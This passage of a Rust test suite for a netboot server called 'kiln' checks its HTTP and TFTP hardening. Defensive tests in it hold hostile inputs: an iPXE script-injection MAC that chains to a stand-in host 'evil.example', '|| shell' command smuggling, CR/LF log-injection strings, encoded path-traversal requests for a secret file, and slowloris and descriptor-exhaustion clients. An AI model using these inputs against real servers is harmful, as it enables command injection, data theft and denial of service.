    // The peers: measured with kiln's ratio, or a visible SKIP when not installed.
    let installed =
        |bin: &str| std::path::Path::new("/usr/sbin").join(bin).is_file() || common::which(bin);
    for (peer, bin, row, ratios) in [
        ("nginx", "nginx", "HTTP: nginx", &["HTTP: kiln / nginx"][..]),
        (
            "tftpd-hpa",
            "in.tftpd",
            "TFTP: tftpd-hpa",
            &["TFTP lock-step: kiln / tftpd-hpa", "TFTP best: kiln"][..],
        ),
    ] {
        let r = find(row);
        assert_eq!(r.len(), 1, "{v:#}");
        let detail = r[0]["detail"].as_str().unwrap();
        if !installed(bin) {
            assert!(
                detail.starts_with(&format!("SKIP: {bin} not installed")),
                "{detail}"
            );
            common::skip(
                "bench_pxe_part_measures_http_and_tftp",
                &format!("{peer} not installed"),
            );
            continue;
        }
        assert!(r[0]["median_seconds"].as_f64().unwrap() > 0.0, "{}", r[0]);
        for q in ratios {
            let x = find(q);
            assert_eq!(x.len(), 1, "{q}: {v:#}");
            assert!(x[0]["ratio"].as_f64().unwrap() > 0.0, "{}", x[0]);
        }
        assert_eq!(find(ratios[0])[0]["target"], "≥ 1.0");
    }
    let rows: Vec<serde_json::Value> = std::iter::once(http.clone())
        .chain(
            find("TFTP: ")
                .into_iter()
                .filter(|r| !what(r).contains("tftpd-hpa")),
        )
        .collect();
    assert_eq!(rows.len(), 4, "{v:#}");
    for (r, w) in rows[1..].iter().zip(["1", "4", "16"]) {
        assert!(
            r["what"]
                .as_str()
                .unwrap()
                .ends_with(&format!("windowsize {w}")),
            "{r}"
        );
        assert_eq!(
            r["runs"].as_array().unwrap().len(),
            3,
            "TFTP runs at least 3 times"
        );
    }
    assert!(rows[1]["ratio"].is_null());
    assert!(rows[3]["ratio"].as_f64().unwrap() > 0.0);
    // The table form names the parts and the machine.
    let o = Command::new(env!("CARGO_BIN_EXE_kiln"))
        .arg("--dir")
        .arg(d.path())
        .args(["bench", "--part", "pxe", "--role", "worker", "--runs", "1"])
        .env("KILN_BENCH_PXE_SCALE", "256")
        .env_remove("KILN_OUT")
        .output()
        .unwrap();
    let t = String::from_utf8_lossy(&o.stdout);
    assert!(o.status.success() && t.starts_with("machine: "), "{t}");
    assert!(t.contains("windowsize 16"), "{t}");
}

/// Waits until the server's stderr holds `n` times `what`.
fn wait_stderr(s: &Server, what: &str, n: usize) {
    let deadline = Instant::now() + Duration::from_secs(20);
    while s.stderr.lock().unwrap().matches(what).count() < n {
        assert!(
            Instant::now() < deadline,
            "no {what:?} ×{n} in:\n{}",
            s.stderr.lock().unwrap()
        );
        std::thread::sleep(Duration::from_millis(100));
    }
}

/// Sends SIGHUP until `ok()` holds (a reload re-reads out/ and the iPXE directory).
fn reload_until(s: &Server, mut ok: impl FnMut() -> bool) {
    let deadline = Instant::now() + Duration::from_secs(20);
    s.signal(libc::SIGHUP);
    while !ok() {
        assert!(
            Instant::now() < deadline,
            "the reload did not take effect:\n{}",
            s.stderr.lock().unwrap()
        );
        std::thread::sleep(Duration::from_millis(200));
        s.signal(libc::SIGHUP);
    }
}

// --- Issue 17: integrity, limits, request input, secrets -------------------------------------

/// A served file written in place (same inode) after verification is never sent under the
/// signed ETag: with the verified-piece cache off, the changed piece fails its check, the
/// response is cut short, and the file is then answered 503 — before and after SIGHUP (the
/// reload fails verification and keeps the old catalog). With the cache, the verified bytes are
/// what is sent.
#[test]
fn in_place_write_never_served_under_the_signed_etag() {
    let (p, out) = fixture();
    let s = start_with(p, out, &["--cache-mib", "0"]).unwrap_or_else(|e| panic!("{e:?}"));
    let url = format!("{}/roles/worker/{BUILD_ID}/root.squashfs", s.http());
    let path = s.out.join("worker").join(BUILD_ID).join("root.squashfs");
    let want = fs::read(&path).unwrap();
    assert_eq!(get(&url).bytes().unwrap().as_ref(), &want[..]);
    // Same inode: open for writing without truncating, change bytes in the middle.
    {
        use std::os::unix::fs::FileExt;
        let f = fs::OpenOptions::new().write(true).open(&path).unwrap();
        f.write_all_at(b"EVIL", 2_000_000).unwrap();
    }
    let check = |when: &str| {
        let r = get(&url);
        let status = r.status().as_u16();
        let etag = r
            .headers()
            .get("etag")
            .map(|v| v.to_str().unwrap().to_string());
        match r.bytes() {
            // The body must never be the changed bytes.
            Ok(b) => {
                assert!(
                    status == 503 || b.as_ref() == &want[..],
                    "{when}: {status}, {} bytes served, etag {etag:?}",
                    b.len()
                );
                assert!(!b.windows(4).any(|w| w == b"EVIL"), "{when}");
            }
            Err(_) => assert_eq!(status, 200, "{when}: cut short"),
        }
        status
    };
    let first = check("after the write");
    assert!(first == 200 || first == 503);
    assert_eq!(check("once found"), 503);
    // A range inside the changed piece too.
    let r = reqwest::blocking::Client::new()
        .get(&url)
        .header("Range", "bytes=2000000-2000003")
        .send()
        .unwrap();
    assert_eq!(r.status(), 503);
    s.signal(libc::SIGHUP);
    let deadline = Instant::now() + Duration::from_secs(20);
    while !s.stderr.lock().unwrap().contains("reload failed") {
        assert!(Instant::now() < deadline, "no reload");
        std::thread::sleep(Duration::from_millis(100));
    }
    assert_eq!(check("after SIGHUP"), 503);
    let metrics = get(&format!("{}/metrics", s.http())).text().unwrap();
    assert!(
        metrics.contains("kiln_integrity_failures_total 1\n"),
        "{metrics}"
    );
    wait_stderr(&s, "INTEGRITY", 1);

    // With the cache (the default), the verified pieces are sent: exactly the signed bytes.
    let (p, out) = fixture();
    let s2 = start_with(p, out, &[]).unwrap_or_else(|e| panic!("{e:?}"));
    let url2 = format!("{}/roles/worker/{BUILD_ID}/root.squashfs", s2.http());
    let path2 = s2.out.join("worker").join(BUILD_ID).join("root.squashfs");
    {
        use std::os::unix::fs::FileExt;
        let f = fs::OpenOptions::new().write(true).open(&path2).unwrap();
        f.write_all_at(b"EVIL", 2_000_000).unwrap();
    }
    let r = get(&url2);
    assert_eq!(r.bytes().unwrap().as_ref(), &want[..]);
    s2.stop();
    s.stop();
}

/// Truncated while served, or an iPXE binary changed in place: never sent (HTTP cut/503,
/// TFTP ERROR); a file added to the iPXE directory is served only after a reload pinned it.
#[test]
fn truncated_or_changed_files_are_not_served_over_http_or_tftp() {
    let (p, out) = fixture();
    let s = start_with(p, out, &["--cache-mib", "0"]).unwrap_or_else(|e| panic!("{e:?}"));
    let path = s.out.join("worker").join(BUILD_ID).join("initrd.img");
    let initrd = fs::read(&path).unwrap();
    fs::OpenOptions::new()
        .write(true)
        .open(&path)
        .unwrap()
        .set_len(1000)
        .unwrap();
    let url = format!("{}/roles/worker/{BUILD_ID}/initrd.img", s.http());
    // Cut short (an error here) or, once found, 503: never the truncated file.
    if let Ok(b) = get(&url).bytes() {
        assert!(b.as_ref() == &initrd[..] || b.starts_with(b"this file changed"));
    }
    assert_eq!(get(&url).status(), 503);
    // iPXE binary over TFTP and HTTP.
    let efi = s.ipxe.path().join("ipxe.efi");
    let want = fs::read(&efi).unwrap();
    {
        use std::os::unix::fs::FileExt;
        let f = fs::OpenOptions::new().write(true).open(&efi).unwrap();
        f.write_all_at(b"EVIL", 500_000).unwrap();
    }
    let g = tftp_get(s.tftp(), &rrq("ipxe.efi", &[("blksize", "1468")]), 1, false);
    assert_eq!(g.unwrap().data, want, "TFTP sent changed bytes");
    // iPXE files are pinned in memory: the bytes read at start.
    let r = get(&format!("{}/ipxe/ipxe.efi", s.http()));
    assert_eq!(r.bytes().unwrap().as_ref(), &want[..]);
    // Added after start: not served until a reload pins it (the changed files put back, so
    // that the reload verifies).
    fs::write(&efi, &want).unwrap();
    fs::write(&path, initrd).unwrap();
    fs::write(s.ipxe.path().join("snp.efi"), b"new").unwrap();
    assert_eq!(get(&format!("{}/ipxe/snp.efi", s.http())).status(), 404);
    reload_until(&s, || {
        get(&format!("{}/ipxe/snp.efi", s.http())).status() == 200
    });
    s.stop();
}

/// `/boot.ipxe?mac=` never copies request input into the script (nor the Host header), and
/// request text in log lines has its control characters escaped.
#[test]
fn boot_script_never_reflects_request_input() {
    let s = start(&[]);
    let addr = s.status["http"].as_str().unwrap().to_string();
    for mac in [
        "x%20;%20chain%20http://evil.example/x",
        "x%20||%20shell",
        "52:54:00:00:00:21%0ashell",
        "52:54:00:00:00:21%20||%20shell",
        "%24%7Bnet0/mac%7D",
        "",
    ] {
        let r = raw_http(
            &addr,
            format!(
                "GET /boot.ipxe?mac={mac} HTTP/1.1\r\nHost: evil.example;shell\r\nConnection: close\r\n\r\n"
            )
            .as_bytes(),
        );
        assert!(r.starts_with("HTTP/1.1 200"), "{mac}: {r}");
        let body = r.split("\r\n\r\n").nth(1).unwrap();
        assert!(body.starts_with("#!ipxe\n"), "{mac}: {body}");
        assert!(body.contains("invalid MAC"), "{mac}: {body}");
        for bad in ["evil", "shell", "||", ";", "net0"] {
            assert!(!body.contains(bad), "{mac}: {bad:?} in {body}");
        }
    }
    // A good MAC: the script's URLs come from the advertised address, never the Host header.
    let r = raw_http(
        &addr,
        b"GET /boot.ipxe?mac=52-54-00-00-00-21 HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n",
    );
    assert!(
        r.contains("kernel http://127.0.0.1:") && !r.contains("evil"),
        "{r}"
    );
    // Log lines: an encoded CR/LF stays escaped; nothing a client sends starts a log line.
    let _ = raw_http(
        &addr,
        b"GET /x%0d%0aFAKE-LOG-LINE HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
    );
    // TFTP file names reach log lines too (refused ones, and writes).
    let u = UdpSocket::bind("127.0.0.1:0").unwrap();
    u.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    for req in [
        rrq("../x\nFAKE-TFTP-LINE", &[]),
        b"\0\x02x\nFAKE-TFTP-WRITE\0octet\0".to_vec(),
    ] {
        u.send_to(&req, s.tftp()).unwrap();
        let mut b = [0u8; 600];
        let _ = u.recv_from(&mut b);
    }
    let _ = get(&format!("{}/healthz", s.http()));
    wait_stderr(&s, "write refused", 1);
    let err = s.stderr.lock().unwrap().clone();
    assert!(
        !err.lines()
            .any(|l| l.starts_with("FAKE") || l.contains("\rFAKE")),
        "{err}"
    );
    s.stop();
}

/// ETags: `If-None-Match` compares weakly (`W/"…"`, lists, `*`); `If-Range` strongly.
#[test]
fn if_none_match_is_weak_and_if_range_strong() {
    let s = start(&[]);
    let url = format!("{}/roles/worker/{BUILD_ID}/vmlinuz", s.http());
    let want = fs::read(s.out.join("worker").join(BUILD_ID).join("vmlinuz")).unwrap();
    let tag = format!("\"{}\"", sha(&want));
    let c = reqwest::blocking::Client::new();
    for (inm, code) in [
        (format!("W/{tag}"), 304),
        (format!("\"a\", W/{tag}"), 304),
        (format!("\"a\",{tag}"), 304),
        ("*".to_string(), 304),
        ("\"a\", \"b\"".to_string(), 200),
        (format!("W/\"{}\"", &tag[1..20]), 200),
    ] {
        let r = c.get(&url).header("If-None-Match", &inm).send().unwrap();
        assert_eq!(r.status(), code, "If-None-Match: {inm}");
    }
    for (ir, code) in [(tag.clone(), 206), (format!("W/{tag}"), 200)] {
        let r = c
            .get(&url)
            .header("Range", "bytes=0-9")
            .header("If-Range", &ir)
            .send()
            .unwrap();
        assert_eq!(r.status(), code, "If-Range: {ir}");
    }
    // Many, overlapping and huge ranges: the whole file, a 416, or the right bytes.
    for (range, code) in [
        ("bytes=0-1,0-1,0-1,0-1,0-1,0-1,0-1", 200),
        ("bytes=0-99999999999999999999999999", 206),
        ("bytes=99999999999999999999999999-", 416),
        ("bytes=-99999999999999999999999999", 206),
    ] {
        let r = c.get(&url).header("Range", range).send().unwrap();
        assert_eq!(r.status(), code, "{range}");
        if code == 206 {
            assert_eq!(r.bytes().unwrap().as_ref(), &want[..], "{range}");
        }
    }
    s.stop();
}

/// Oversized request lines and heads are refused with 414/431 (or the connection closed),
/// HTTP/1.0 and HEAD work, and traversal through encoded or NUL path pieces finds nothing.
#[test]
fn http_heads_are_bounded() {
    let s = start(&[]);
    let addr = s.status["http"].as_str().unwrap().to_string();
    let long = format!(
        "GET /{} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
        "a".repeat(40_000)
    );
    let r = raw_http(&addr, long.as_bytes());
    assert!(
        r.is_empty() || r.starts_with("HTTP/1.1 414") || r.starts_with("HTTP/1.1 431"),
        "{}",
        &r[..r.len().min(200)]
    );
    let big = format!(
        "GET /healthz HTTP/1.1\r\nHost: x\r\nX-Big: {}\r\nConnection: close\r\n\r\n",
        "b".repeat(40_000)
    );
    let r = raw_http(&addr, big.as_bytes());
    assert!(
        r.is_empty() || r.starts_with("HTTP/1.1 431"),
        "{}",
        &r[..r.len().min(200)]
    );
    let many: String = (0..200).map(|i| format!("X-H{i}: v\r\n")).collect();
    let r = raw_http(
        &addr,
        format!("GET /healthz HTTP/1.1\r\nHost: x\r\n{many}Connection: close\r\n\r\n").as_bytes(),
    );
    assert!(
        r.is_empty() || r.starts_with("HTTP/1.1 431"),
        "{}",
        &r[..r.len().min(200)]
    );
    let r = raw_http(&addr, b"GET /healthz HTTP/1.0\r\n\r\n");
    assert!(r.starts_with("HTTP/1.0 200") && r.ends_with("ok\n"), "{r}");
    let r = raw_http(
        &addr,
        format!("HEAD /roles/worker/{BUILD_ID}/vmlinuz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n").as_bytes(),
    );
    assert!(
        r.starts_with("HTTP/1.1 200")
            && r.contains("content-length: 300000")
            && r.ends_with("\r\n\r\n"),
        "{r}"
    );
    for path in [
        "/ipxe/%2e%2e%2fkiln-serve-secret",
        "/ipxe/undionly.kpxe%00",
        "/roles/worker/%2e%2e/nodes",
        format!("/roles/worker/{BUILD_ID}/..%2fmanifest.json").leak(),
    ] {
        let r = raw_http(
            &addr,
            format!("GET {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n").as_bytes(),
        );
        assert!(
            r.starts_with("HTTP/1.1 404") || r.starts_with("HTTP/1.1 400"),
            "{path}: {r}"
        );
        assert!(!r.contains("TOPSECRET"), "{path}");
    }
    s.stop();
}

/// A symlink in the iPXE directory that leads outside it is not served (nor pinned).
#[test]
fn symlinks_leading_outside_the_ipxe_dir_are_not_served() {
    let (p, out) = fixture();
    let d = tempfile::tempdir().unwrap();
    fs::write(d.path().join("outside"), b"TOPSECRET").unwrap();
    let s = start_with(p, out, &[]).unwrap_or_else(|e| panic!("{e:?}"));
    std::os::unix::fs::symlink(d.path().join("outside"), s.ipxe.path().join("evil.efi")).unwrap();
    s.signal(libc::SIGHUP);
    wait_stderr(&s, "reloaded", 1);
    let r = get(&format!("{}/ipxe/evil.efi", s.http()));
    assert_eq!(r.status(), 404);
    assert!(!r.text().unwrap().contains("TOPSECRET"));
    assert!(tftp_get(s.tftp(), &rrq("evil.efi", &[]), 1, false).is_err());
    s.stop();
}

/// Connect from `src` (any 127.0.0.0/8 address) to `addr`.
fn connect_from(src: &str, addr: &str) -> TcpStream {
    let sock = socket2::Socket::new(socket2::Domain::IPV4, socket2::Type::STREAM, None).unwrap();
    let src: SocketAddr = format!("{src}:0").parse().unwrap();
    sock.bind(&src.into()).unwrap();
    let a: SocketAddr = addr.parse().unwrap();
    sock.connect(&a.into()).unwrap();
    sock.into()
}

/// Slow clients (slowloris: a request head that never ends) hold at most the per-client share
/// of connections; the rest are closed at once with 503 (logged rarely), another client is
/// served meanwhile, and the slow ones are closed after the header timeout.
#[test]
fn slow_clients_do_not_lock_others_out() {
    let s = start(&[]);
    let addr = s.status["http"].as_str().unwrap().to_string();
    let mut slow = Vec::new();
    let mut refused = 0;
    for _ in 0..100 {
        let mut t = connect_from("127.0.0.1", &addr);
        t.write_all(b"GET /healthz HTTP/1.1\r\nHost: x\r\n")
            .unwrap();
        slow.push(t);
    }
    for t in &mut slow {
        t.set_read_timeout(Some(Duration::from_millis(200)))
            .unwrap();
        let mut b = [0u8; 64];
        if let Ok(n) = t.read(&mut b) {
            if b[..n].starts_with(b"HTTP/1.1 503") {
                refused += 1;
            }
        }
    }
    assert!(
        refused >= 30,
        "only {refused} of 100 slow connections refused"
    );
    // Another client is served while they hang.
    let mut t = connect_from("127.0.0.2", &addr);
    t.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    t.write_all(b"GET /healthz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
        .unwrap();
    let mut r = String::new();
    let _ = t.read_to_string(&mut r);
    assert!(r.starts_with("HTTP/1.1 200") && r.ends_with("ok\n"), "{r}");
    // The slow ones are closed by the server after the header timeout (10 s).
    let deadline = Instant::now() + Duration::from_secs(40);
    for t in &mut slow {
        t.set_read_timeout(Some(Duration::from_secs(1))).unwrap();
        let mut b = [0u8; 512];
        loop {
            match t.read(&mut b) {
                Ok(0) => break,
                Ok(_) => {}
                Err(e) if e.kind() == std::io::ErrorKind::ConnectionReset => break,
                Err(_) => assert!(Instant::now() < deadline, "a slow client was never closed"),
            }
        }
    }
    let err = s.stderr.lock().unwrap().clone();
    let lines = err.matches("too many connections").count();
    assert!((1..=2).contains(&lines), "{lines} refusal lines:\n{err}");
    let metrics = get(&format!("{}/metrics", s.http())).text().unwrap();
    assert!(
        metrics.contains("kiln_http_connections_refused_total{reason=\"client_cap\"}"),
        "{metrics}"
    );
    s.stop();
}

/// HTTP keeps working while TFTP is saturated: against a 64-descriptor limit, clients at ten
/// addresses hold every TFTP transfer they may (un-ACKed, `timeout=255`), and a new HTTP client
/// is still served (TFTP and HTTP each get a share of the descriptors).
#[test]
fn http_is_served_while_tftp_is_saturated() {
    let (p, out) = fixture();
    let s = start_limited(p, out, &[], Some(64)).unwrap_or_else(|e| panic!("{e:?}"));
    let mut held = Vec::new();
    for i in 1..=10 {
        let u = connect_udp(&format!("127.0.0.{i}"));
        for _ in 0..10 {
            u.send_to(&rrq("ipxe.efi", &[("timeout", "255")]), s.tftp())
                .unwrap();
        }
        held.push(u);
    }
    std::thread::sleep(Duration::from_millis(500));
    for _ in 0..5 {
        let r = get(&format!("{}/healthz", s.http()));
        assert_eq!(r.status(), 200);
    }
    let err = s.stderr.lock().unwrap().clone();
    assert!(!err.contains("http: accept:"), "{err}");
    s.stop();
}

fn connect_udp(ip: &str) -> UdpSocket {
    UdpSocket::bind(format!("{ip}:0")).unwrap()
}

/// With every descriptor taken, accept() failing with EMFILE neither spins nor floods the
/// log: waiting HTTP clients are closed at once (a descriptor is kept in reserve for that) and
/// the failure is logged once per 10 s. The limit is the server's own idle descriptors plus 8,
/// fewer than the 16 connections HTTP may hold, so the idle clients below exhaust it whatever
/// the server's fixed descriptors are.
#[test]
fn accept_without_descriptors_backs_off_and_logs_rarely() {
    let (p, out) = fixture();
    let probe = start_limited(p, out, &[], Some(1024)).unwrap_or_else(|e| panic!("{e:?}"));
    let base = fs::read_dir(format!("/proc/{}/fd", probe.child.id()))
        .unwrap()
        .count() as u64;
    probe.stop();
    let (p, out) = fixture();
    let s = start_limited(p, out, &[], Some(base + 8)).unwrap_or_else(|e| panic!("{e:?}"));
    let addr = s.status["http"].as_str().unwrap().to_string();
    std::thread::sleep(Duration::from_millis(500));
    let mut idle = Vec::new();
    for _ in 0..30 {
        idle.push(TcpStream::connect(&addr).unwrap());
    }
    let t0 = Instant::now();
    let mut closed = 0;
    for _ in 0..10 {
        let mut t = TcpStream::connect(&addr).unwrap();
        t.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
        let _ = t.write_all(b"GET /healthz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n");
        let mut r = Vec::new();
        match t.read_to_end(&mut r) {
            Ok(_) => closed += 1,
            Err(e) if e.kind() == std::io::ErrorKind::ConnectionReset => closed += 1,
            Err(_) => {}
        }
    }
    assert_eq!(closed, 10, "clients left hanging");
    assert!(t0.elapsed() < Duration::from_secs(60));
    // The refused clients are closed before the line is logged: wait for it to reach stderr.
    let waited = Instant::now();
    while !s.stderr.lock().unwrap().contains("http: accept:")
        && waited.elapsed() < Duration::from_secs(10)
    {
        std::thread::sleep(Duration::from_millis(50));
    }
    let err = s.stderr.lock().unwrap().clone();
    let accept_lines = err.matches("http: accept:").count();
    assert!(
        (1..=2).contains(&accept_lines),
        "{accept_lines} accept lines:\n{err}"
    );
    drop(idle);
    s.stop();
}

/// `--json`'s stop summary counts in integers (never `2.0` or `-0.0`).
#[test]
fn json_stop_summary_has_integer_counters() {
    let s = start(&[]);
    let _ = get(&format!("{}/healthz", s.http()));
    let (code, rest) = s.stop();
    assert_eq!(code, 0);
    let line = rest.lines().find(|l| l.contains("\"stopped\"")).unwrap();
    assert!(!line.contains(".0") && !line.contains("-0"), "{line}");
    let v: serde_json::Value = serde_json::from_str(line).unwrap();
    assert_eq!(v["http_requests"].as_u64(), Some(1), "{line}");
    assert_eq!(v["tftp_transfers"].as_u64(), Some(0), "{line}");
}

/// Builds and seeds that carry secrets of the cluster are named in a warning at start and on
/// reload; `--refuse-secret-builds` leaves them out, saying why. A seed with only its node's
/// identity is served either way, with a note.
#[test]
fn secret_bearing_builds_are_warned_about_or_refused() {
    let (p, out) = fixture_secrets(false, true, Some(true));
    let s = start_with(p, out, &[]).unwrap_or_else(|e| panic!("{e:?}"));
    wait_stderr(&s, "carry secrets", 1);
    assert!(s.stderr.lock().unwrap().contains("the seed of worker-1"));
    s.signal(libc::SIGHUP);
    wait_stderr(&s, "carry secrets", 2);
    s.stop();

    // Refused: worker-1's seed carries the token (and so does a node.json that does not say
    // which secrets it carries); worker-2 (no seed) still boots.
    for cluster in [Some(true), None] {
        let (p, out) = fixture_secrets(false, true, cluster);
        let s = start_with(p, out, &["--refuse-secret-builds"]).unwrap_or_else(|e| panic!("{e:?}"));
        let script = get(&format!("{}/boot.ipxe?mac={WORKER_1}", s.http()))
            .text()
            .unwrap();
        assert!(
            script.contains("not provisioned") && script.contains("carries secrets"),
            "{script}"
        );
        assert_eq!(
            get(&format!("{}/nocloud/{WORKER_1}/user-data", s.http())).status(),
            404
        );
        let w2 = get(&format!("{}/boot.ipxe?mac=52:54:00:00:00:22", s.http()))
            .text()
            .unwrap();
        assert!(w2.contains("kernel "), "{w2}");
        let unprov = s.status["catalog"]["unprovisioned"].as_array().unwrap();
        assert!(
            unprov.iter().any(|u| u["hostname"] == "worker-1"
                && u["reason"].as_str().unwrap().contains("secrets")),
            "{unprov:?}"
        );
        wait_stderr(&s, "--refuse-secret-builds", 1);
        s.stop();
    }

    // Served: worker-1's seed carries only its own identity.
    let (p, out) = fixture_secrets(false, true, Some(false));
    let s = start_with(p, out, &["--refuse-secret-builds"]).unwrap_or_else(|e| panic!("{e:?}"));
    assert_eq!(
        get(&format!("{}/nocloud/{WORKER_1}/user-data", s.http())).status(),
        200
    );
    wait_stderr(&s, "own identity", 1);
    assert!(!s.stderr.lock().unwrap().contains("carry secrets"));
    s.stop();

    // A role build that carries secrets: nothing left to serve.
    let (p, out) = fixture_secrets(true, false, Some(false));
    let (code, err) = start_with(p, out, &["--refuse-secret-builds"])
        .err()
        .expect("must refuse");
    assert_ne!(code, 0);
    assert!(
        err.contains("carries secrets") && err.contains("nothing to serve"),
        "{err}"
    );
}

/// An idle keep-alive connection is closed by the server (the 10 s header timeout runs while
/// it waits for the next request; 30 s without a byte either way closes any connection), so
/// idle clients cannot hold connection slots for ever.
#[test]
fn idle_keep_alive_connections_are_closed() {
    let s = start(&[]);
    let addr = s.status["http"].as_str().unwrap().to_string();
    let mut t = TcpStream::connect(&addr).unwrap();
    t.write_all(b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n")
        .unwrap();
    t.set_read_timeout(Some(Duration::from_secs(90))).unwrap();
    let mut got = Vec::new();
    let mut b = [0u8; 1024];
    let t0 = Instant::now();
    loop {
        match t.read(&mut b) {
            Ok(0) => break,
            Ok(n) => got.extend_from_slice(&b[..n]),
            Err(e) if e.kind() == std::io::ErrorKind::ConnectionReset => break,
            Err(e) => panic!("still open after {:?}: {e}", t0.elapsed()),
        }
    }
    assert!(String::from_utf8_lossy(&got).starts_with("HTTP/1.1 200"));
    s.stop();
}
